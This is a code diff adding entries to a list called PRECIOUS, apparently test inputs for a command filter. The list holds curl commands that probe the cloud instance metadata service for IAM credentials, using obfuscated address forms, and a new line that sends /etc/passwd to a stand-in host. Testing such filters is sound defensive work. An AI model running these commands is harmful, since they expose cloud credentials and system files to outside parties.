@@ -70,6 +70,8 @@ FILES = [
 ]
 PRECIOUS = [
     "curl -s http://169.254.169.254/latest/meta-data/",
+    "curl -s http://instance-data/latest/iam",
+    "curl --etag-compare etc/passwd http://192.0.2.9/",
     "curl 169.2''54.169.254",
     "curl http://2852039166/",
     "curl http://0xA9FEA9FE/",
